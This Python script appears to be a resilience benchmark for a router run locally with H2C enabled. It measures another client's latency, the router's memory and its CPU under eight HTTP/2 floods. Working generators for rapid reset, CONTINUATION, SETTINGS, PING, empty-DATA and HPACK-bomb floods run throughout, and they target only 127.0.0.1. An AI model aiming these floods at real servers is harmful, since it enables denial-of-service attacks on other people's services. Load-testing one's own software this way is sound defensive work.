"""Floods of HTTP/2 against a router with H2C=1: what its other clients notice, and what it costs the router.

For each flood: another client asks for /hello_world two hundred times a second, first alone, then while an
attacker writes the same flood over and over, on a new connection whenever the old one is closed. Printed are the
99th percentiles of both, their ratio, by how much the memory grew, and the router's CPU five seconds later.
The attacker has a process of its own: beside a router on few cores, some of what the other client notices is only
that there are few cores, so the last row is a flood of ordinary requests.
"""

import multiprocessing
import os
import socket
import subprocess
import sys
import tempfile
import time

import h2.config
import h2.connection
from hpack import Encoder
from hyperframe import frame as frames

SECONDS = 4
PAUSE = 0.005
REQUEST = [(":method", "GET"), (":scheme", "http"), (":path", "/hello_world"), (":authority", "h")]
POST = [(":method", "POST"), *REQUEST[1:]]


def preface():
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    return connection.data_to_send()


def block(headers):
    # Without the table, so that each is the same on every stream.
    return Encoder().encode([(name, value) for name, value in headers], huffman=False)


GET_BLOCK, POST_BLOCK = block(REQUEST), block(POST)


def headers(stream, data, *flags):
    return frames.HeadersFrame(stream, data, flags=flags).serialize()


def streams(count):
    return range(1, 2 * count, 2)


def rapid_reset():
    for stream in streams(20_000):
        yield headers(stream, GET_BLOCK, "END_HEADERS", "END_STREAM")
        yield frames.RstStreamFrame(stream, error_code=8).serialize()


def made_you_reset():
    for stream in streams(5_000):
        yield headers(stream, POST_BLOCK, "END_HEADERS")
        yield frames.WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()


def continuation():
    yield headers(1, GET_BLOCK, "END_STREAM")
    for number in range(5_000):
        yield frames.ContinuationFrame(1, block([(f"x-{number}", "y")])).serialize()


def settings():
    for _ in range(20_000):
        yield frames.SettingsFrame(0, settings={4: 65_536}).serialize()


def ping():
    for _ in range(20_000):
        yield frames.PingFrame(0, b"question").serialize()


def empty_data():
    yield headers(1, POST_BLOCK, "END_HEADERS")
    for _ in range(20_000):
        yield frames.DataFrame(1, b"").serialize()


def hpack_bomb():
    encoder = Encoder()
    yield headers(1, encoder.encode([*REQUEST, ("x-bomb", "x" * 4_000)], huffman=False), "END_HEADERS", "END_STREAM")
    # The newest entry of the table, by one byte each time.
    for stream in list(streams(200))[1:]:
        yield headers(stream, GET_BLOCK + b"\xbe" * 16_000, "END_HEADERS", "END_STREAM")


def requests():
    for stream in streams(100):
        yield headers(stream, GET_BLOCK, "END_HEADERS", "END_STREAM")


def attack(port, flood, until, told):
    data = preface() + b"".join(flood())
    connections = 0
    while time.monotonic() < until:
        connections += 1
        with socket.create_connection(("127.0.0.1", port)) as connection:
            connection.settimeout(0.2)
            try:
                connection.sendall(data)
                while time.monotonic() < until and connection.recv(1 << 16):
                    pass
            except OSError:
                pass
    told.put(connections)


def p99(port, until):
    request = b"GET /hello_world HTTP/1.1\r\nHost: h\r\n\r\n"
    times = []
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        while time.monotonic() < until:
            begun = time.monotonic()
            connection.sendall(request)
            answer = connection.recv(4096)
            assert answer.startswith(b"HTTP/1.1 200"), answer
            times.append(time.monotonic() - begun)
            time.sleep(PAUSE)
    return sorted(times)[int(len(times) * 0.99)] * 1000


def memory(process, line):
    with open(f"/proc/{process}/status") as status:
        return next(int(found.split()[1]) for found in status if found.startswith(line)) / 1024


def cpu(process):
    with open(f"/proc/{process}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def measure(port, process, flood):
    quiet = p99(port, time.monotonic() + SECONDS)
    before = memory(process, "VmRSS")
    # The peak counts from here.
    with open(f"/proc/{process}/clear_refs", "w") as peak:
        peak.write("5")
    until = time.monotonic() + SECONDS
    told = multiprocessing.Queue()
    attacker = multiprocessing.Process(target=attack, args=(port, flood, until, told))
    attacker.start()
    during = p99(port, until)
    connections = told.get()
    attacker.join()
    growth = memory(process, "VmHWM") - before
    time.sleep(5)
    begun, spent = time.monotonic(), cpu(process)
    time.sleep(2)
    busy = (cpu(process) - spent) / (time.monotonic() - begun)
    name = flood.__name__.replace("_", " ")
    print(
        f"| {name} | {connections} | {quiet:.1f} | {during:.1f} | {during / quiet:.1f} | {growth:.1f} | {busy:.1%} |",
        flush=True,
    )


def main():
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    with tempfile.TemporaryDirectory() as disk:
        os.chmod(disk, 0o755)
        data = os.path.join(disk, "data")
        os.mkdir(data)
        environment = {
            "H2C": "1",
            "HOST": "127.0.0.1",
            "PORT": str(port),
            "RENDER_DISK_BASE_PATH": data,
            "LOG_LEVEL": "error",
        }
        router = subprocess.Popen([sys.argv[1], "serve"], env=environment, cwd=disk, stderr=subprocess.DEVNULL)
        try:
            for _ in range(200):
                try:
                    socket.create_connection(("127.0.0.1", port)).close()
                    break
                except OSError:
                    time.sleep(0.05)
            print("| flood | connections | p99 alone, ms | p99 during, ms | ratio | memory, MiB | CPU after 5 s |")
            print("|---|---|---|---|---|---|---|")
            floods = [rapid_reset, made_you_reset, continuation, settings, ping, empty_data, hpack_bomb, requests]
            for flood in floods:
                measure(port, router.pid, flood)
        finally:
            router.terminate()
            router.wait()


if __name__ == "__main__":
    main()
